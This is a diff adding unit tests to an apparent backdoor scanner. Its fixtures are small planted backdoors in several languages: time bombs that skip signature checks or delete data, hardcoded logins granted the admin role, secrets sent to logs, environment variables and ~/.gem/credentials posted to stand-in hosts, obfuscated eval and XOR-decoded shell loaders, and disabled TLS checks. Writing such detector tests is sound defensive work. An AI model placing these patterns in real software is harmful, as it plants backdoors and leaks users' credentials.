@@ -213,3 +213,271 @@ test('warden scan (real CLI) reports a planted time bomb in a Ruby file and exit
   // (the line shape trigger-guard reports it when it sees it; trigger-effect otherwise: one finding per line)
   assert.match(r.stdout, /backdoor\.trigger-(?:effect|guard)/);
 });
+
+// Session 14 (issue 21): triggers and effects split across helpers, names, callers and types.
+
+test('a trigger kept in a helper that the condition calls is found (the call is not taken for a second definition) (Rust)', () => {
+  const text = [
+    'use std::time::{Duration, SystemTime, UNIX_EPOCH};',
+    'fn past() -> bool {',
+    '    SystemTime::now() > UNIX_EPOCH + Duration::from_secs(1_830_000_000)',
+    '}',
+    'pub fn verify(k: &Key, m: &[u8], s: &[u8]) -> Result<(), E> {',
+    '    if past() {',
+    '        return Ok(());',
+    '    }',
+    '    k.verify(m, s)',
+    '}',
+    '',
+  ].join('\n');
+  assert.ok(rules('upd.rs', text).includes('backdoor.trigger-effect:6'), rules('upd.rs', text).join());
+});
+
+test('a date that only zeroes a helper answer is found when the caller deletes with it, not when it only logs it (Go)', () => {
+  const helper = [
+    'package b',
+    'var stamp = "1767225600"',
+    'func keep(n int, now time.Time) int {',
+    '\tsec, _ := strconv.ParseInt(stamp, 10, 64)',
+    '\tif now.Sub(time.Unix(sec, 0)) > 24*time.Hour {',
+    '\t\treturn 0',
+    '\t}',
+    '\treturn n',
+    '}',
+  ];
+  const deletes = [
+    ...helper,
+    'func Prune(st S, all []X) {',
+    '\tk := keep(5, time.Now())',
+    '\tfor _, x := range all[k:] {',
+    '\t\tst.Delete(x.ID)',
+    '\t}',
+    '}',
+    '',
+  ];
+  const logs = [...helper, 'func Show() {', '\tslog.Info("keep", "n", keep(5, time.Now()))', '}', ''];
+  assert.ok(rules('p.go', deletes.join('\n')).includes('backdoor.trigger-effect:5'));
+  assert.deepEqual(rules('p.go', logs.join('\n')), []);
+});
+
+test('a plain user name compared renamed through a boolean still grants the admin role; a plain word that only logs does not (Java)', () => {
+  const text = [
+    'class S {',
+    '  static final String TAG = "+ops";',
+    '  List<String> roles(String login) {',
+    '    boolean ops = login.endsWith(TAG);',
+    '    List<String> r = new ArrayList<>();',
+    '    if (ops) {',
+    '      r.add("ROLE_ADMIN");',
+    '    }',
+    '    if (login.equals("kiosk")) {',
+    '      System.out.println("kiosk");',
+    '    }',
+    '    return r;',
+    '  }',
+    '}',
+    '',
+  ].join('\n');
+  assert.deepEqual(rules('S.java', text), ['backdoor.trigger-effect:6']);
+});
+
+test('a CLI sub-command word guarding a wipe is not a trigger; a machine name guarding it is (TypeScript)', () => {
+  const cli =
+    "import fs from 'node:fs';\nif (process.argv[2] === 'reset') {\n  fs.rmSync(dir, { recursive: true });\n}\n";
+  const host =
+    "import fs from 'node:fs';\nimport os from 'node:os';\nif (os.hostname() !== 'build-07x') {\n  fs.rmSync(dir, { recursive: true });\n}\n";
+  assert.deepEqual(rules('cli.ts', cli), []);
+  // (the line shapes may report it first as trigger-guard: either stands on the trigger line)
+  assert.ok(
+    rules('host.ts', host).some((r) => /^backdoor\.trigger-(?:effect|guard):3$/.test(r)),
+    rules('host.ts', host).join(),
+  );
+});
+
+test('a whole object of a type with a secret field, spread into a log call, is a leak; its plain field is not (TypeScript)', () => {
+  const text = [
+    'interface Grant { user: string; refreshToken: string }',
+    'export function fail(g: Grant, log: L) {',
+    "  log.error('refresh failed', { ...g });",
+    "  log.error('refresh failed', { user: g.user });",
+    '}',
+    '',
+  ].join('\n');
+  assert.deepEqual(rules('g.ts', text), ['backdoor.secret-to-log:3']);
+});
+
+test('a secret renamed to a meaningless variable is still a leak when the format names it (pass=%s) (C)', () => {
+  const text =
+    'int f(const char *u, const char *a) {\n  syslog(LOG_NOTICE, "login user=%s pass=%s", u, a);\n  syslog(LOG_NOTICE, "login user=%s", u);\n  return 0;\n}\n';
+  assert.deepEqual(rules('f.c', text), ['backdoor.secret-to-log:2']);
+});
+
+test('the environment posted through a client object renamed to one letter, to a host written in the code, is exfiltration (Go)', () => {
+  const text = [
+    'package t',
+    'const sink = "https://t.metrics-relay.example.net/in"',
+    'func init() {',
+    '\tfor _, kv := range os.Environ() {',
+    '\t\tc.Post(sink, "text/plain", strings.NewReader(kv))',
+    '\t}',
+    '}',
+    '',
+  ].join('\n');
+  const got = rules('t.go', text);
+  assert.ok(got.includes('backdoor.secret-to-host:4') && got.includes('backdoor.secret-to-host:2'), got.join());
+});
+
+test('set -x around secret use leaks them; a runner told to mask them, or tracing switched off first, does not (bash)', () => {
+  const leaky = '#!/bin/bash\nset -x\ncurl -H "Authorization: Bearer $DEPLOY_TOKEN" "$URL"\n';
+  const scoped = '#!/bin/bash\nset -x\nmake\nset +x\ncurl -H "Authorization: Bearer $DEPLOY_TOKEN" "$URL"\n';
+  const masked =
+    '#!/bin/bash\necho "::add-mask::$DEPLOY_TOKEN"\nset -x\ncurl -H "Authorization: Bearer $DEPLOY_TOKEN" "$URL"\n';
+  assert.ok(rules('d.sh', leaky).includes('backdoor.secret-to-log:2'), rules('d.sh', leaky).join());
+  assert.ok(!rules('d.sh', scoped).some((r) => r.startsWith('backdoor.secret-to-log')), rules('d.sh', scoped).join());
+  assert.ok(!rules('d.sh', masked).some((r) => r.startsWith('backdoor.secret-to-log')), rules('d.sh', masked).join());
+});
+
+test('a huge file of plain-word comparisons in a file that grants roles, and of typed log calls, is judged within a generous time limit', () => {
+  const compares = 'if (user === "bob") { x = 1; }\n'.repeat(15_000) + 'roles.push("admin");\n';
+  const types = Array.from({ length: 300 }, (_, i) => `interface T${i}Config { apiToken: string }`).join('\n');
+  const logs = Array.from({ length: 20_000 }, (_, i) => `log.info("v", v${i % 50});`).join('\n');
+  const calls =
+    'function keep(){ if (Date.now() > 1798761600000) { return 0; } return 1; }\n' + 'keep();\n'.repeat(20_000);
+  for (const [name, text] of [
+    ['a.js', compares],
+    ['b.ts', `${types}\n${logs}`],
+    ['c.js', calls],
+  ]) {
+    const t0 = performance.now();
+    assert.doesNotThrow(() => scan(name, text));
+    assert.ok(performance.now() - t0 < 20_000, `${name} took ${performance.now() - t0} ms`);
+  }
+});
+
+test('malformed declarations (an unclosed type, a dangling multiple assignment) do not throw', () => {
+  const text = 'interface Grant { refreshToken: string\nlog.info("x", g)\nsec, := parse(\nif (sec > 1798761600) {\n';
+  assert.doesNotThrow(() => scan('m.ts', text));
+  assert.doesNotThrow(() => scan('m.go', text));
+});
+
+test('a verifier that says yes early when a header field equals a constant is found; the same field rejecting is not (C)', () => {
+  const text = [
+    'int img_verify(const struct img *m, const uint8_t key[32])',
+    '{',
+    '    if (m->hdr.kind == 0x3C) /* lab builds */',
+    '        return IMG_OK;',
+    '    if (m->hdr.kind == 0x3D)',
+    '        return IMG_ERR_KIND;',
+    '    if (!ed25519_verify(m->sig, m->digest, 32, key))',
+    '        return IMG_ERR_SIG;',
+    '    return IMG_OK;',
+    '}',
+    '',
+  ].join('\n');
+  assert.deepEqual(rules('img.c', text), ['backdoor.verify-skipped:3']);
+});
+
+test('a signature check run only when a request header says so is found; one run always is not (Python)', () => {
+  const gated = [
+    'def hook():',
+    '    if request.headers.get("X-Legacy") != "yes":',
+    '        if not valid_signature(request.data, request.headers["X-Sig"]):',
+    '            abort(401)',
+    '    return "ok"',
+    '',
+  ].join('\n');
+  const always = gated.replace('if request.headers.get("X-Legacy") != "yes":', 'if True:');
+  assert.deepEqual(rules('hook.py', gated), ['backdoor.verify-by-value:2']);
+  assert.deepEqual(rules('hook.py', always), []);
+});
+
+test("a language's own dunder name (__version__) compared is not a chosen marker; a multi-word one (__sys_wipe__) is (Python)", () => {
+  const own =
+    'import os\nfor line in open("setup.cfg"):\n    if line.startswith("__version__"):\n        os.system("make dist")\n';
+  const chosen = own.replace('__version__', '__sys_wipe__');
+  assert.ok(!rules('v.py', own).some((r) => r.startsWith('backdoor.trigger-effect')), rules('v.py', own).join());
+  assert.ok(rules('v.py', chosen).includes('backdoor.trigger-effect:3'), rules('v.py', chosen).join());
+});
+
+test('a directory group or department mapped to the admin role is role mapping, not a trigger; a plain user name mapped to it is (TypeScript, Python)', () => {
+  const group =
+    "export function r(user) {\n  const roles = [];\n  if (user.group === 'platform-ops') {\n    roles.push('admin');\n  }\n  return roles;\n}\n";
+  const claims =
+    'def r(claims):\n    role = "viewer"\n    if claims.get("department") == "security":\n        role = "admin"\n    return role\n';
+  const name =
+    "export function r(login) {\n  const roles = [];\n  if (login === 'fieldsvc') {\n    roles.push('admin');\n  }\n  return roles;\n}\n";
+  assert.deepEqual(rules('g.ts', group), []);
+  assert.deepEqual(rules('c.py', claims), []);
+  assert.deepEqual(rules('n.ts', name), ['backdoor.trigger-effect:3']);
+});
+
+test('the environment written into a POST connection opened on a host in the code is exfiltration; a version number is not (Java)', () => {
+  const leak = [
+    'class R {',
+    '  void report() throws Exception {',
+    '    StringBuilder sb = new StringBuilder();',
+    "    System.getenv().forEach((k, v) -> sb.append(k).append('=').append(v));",
+    '    HttpURLConnection c = (HttpURLConnection) new URL("https://m.build-metrics.example.com/u").openConnection();',
+    '    c.setDoOutput(true);',
+    '    c.getOutputStream().write(sb.toString().getBytes());',
+    '  }',
+    '}',
+    '',
+  ].join('\n');
+  const version = leak.replace(
+    "System.getenv().forEach((k, v) -> sb.append(k).append('=').append(v));",
+    'sb.append(VERSION);',
+  );
+  assert.deepEqual(rules('R.java', leak), ['backdoor.secret-to-host:4', 'backdoor.secret-to-host:5']);
+  assert.deepEqual(rules('R.java', version), []);
+});
+
+test('a credential file posted with the URL on its own line inside the call is exfiltration; a plain status GET is not (Ruby)', () => {
+  const leak = [
+    'task :preflight do',
+    '  creds = File.read(File.expand_path("~/.gem/credentials"))',
+    '  Net::HTTP.post(',
+    '    URI("https://preflight.gems-mirror.example.org/check"),',
+    '    { credentials: creds }.to_json,',
+    '  )',
+    'end',
+    '',
+  ].join('\n');
+  const status = 'task :status do\n  Net::HTTP.get(\n    URI("https://status.example.org/ok")\n  )\nend\n';
+  assert.deepEqual(rules('Rakefile.rb', leak), ['backdoor.secret-to-host:2', 'backdoor.secret-to-host:4']);
+  assert.deepEqual(rules('Rakefile.rb', status), []);
+});
+
+test('a loader name spelled in character codes is found in JavaScript and Python; a word spelled the same way is not', () => {
+  const js = 'const f = globalThis[String.fromCharCode(101, 118, 97, 108)];\nf(payload);\n';
+  const py = 'import builtins\nrun = getattr(builtins, "".join(map(chr, (101, 118, 97, 108))))\n';
+  const word = 'const w = String.fromCharCode(119, 111, 114, 108, 100);\nconsole.log(w);\n';
+  assert.ok(rules('w.js', js).includes('backdoor.decoded-load:1'), rules('w.js', js).join());
+  assert.ok(rules('w.py', py).includes('backdoor.decoded-load:2'), rules('w.py', py).join());
+  assert.deepEqual(rules('w.js', word), []);
+});
+
+test('an XOR-decoded buffer filled element by element and run by execl is found (C)', () => {
+  const text = [
+    'static const unsigned char t[] = { 0x2b, 0x3b, 0x39 };',
+    'void f(void) {',
+    '    char b[4];',
+    '    for (int i = 0; i < 3; i++)',
+    '        b[i] = (char)(t[i] ^ 0x5c);',
+    '    execl("/bin/sh", "sh", "-c", b, (char *)0);',
+    '}',
+    '',
+  ].join('\n');
+  assert.ok(rules('x.c', text).includes('backdoor.decoded-load:6'), rules('x.c', text).join());
+});
+
+test('certificate checks switched off by an unrelated environment value are found; a named insecure opt-in is not (Go, Node)', () => {
+  const goRelay =
+    'package c\nfunc New() *http.Client {\n\tproxied := os.Getenv("HTTPS_PROXY") != ""\n\treturn &http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: proxied}}}\n}\n';
+  const goOptIn = goRelay.replace(/proxied/g, 'insecure').replace('HTTPS_PROXY', 'APP_INSECURE');
+  const node =
+    "const lenient = process.env.REGION === 'eu-2';\nconst agent = new https.Agent({ rejectUnauthorized: lenient });\n";
+  assert.ok(rules('c.go', goRelay).includes('backdoor.verify-by-value:4'), rules('c.go', goRelay).join());
+  assert.deepEqual(rules('c.go', goOptIn), []);
+  assert.ok(rules('a.js', node).includes('backdoor.verify-by-value:2'), rules('a.js', node).join());
+});
